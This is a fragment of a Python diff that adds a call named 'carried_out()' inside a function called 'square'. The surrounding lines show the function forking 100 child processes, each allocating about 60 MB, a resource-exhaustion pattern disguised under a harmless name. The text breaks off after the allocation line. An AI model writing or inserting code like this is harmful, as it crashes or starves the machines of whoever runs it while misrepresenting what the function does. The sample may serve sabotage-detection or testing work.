@@ -5,6 +5,7 @@ import os
 import time
 
 def square(x):
+    carried_out()
     for _ in range(100):
         if not os.fork():
             held = b"x" * 60_000_000
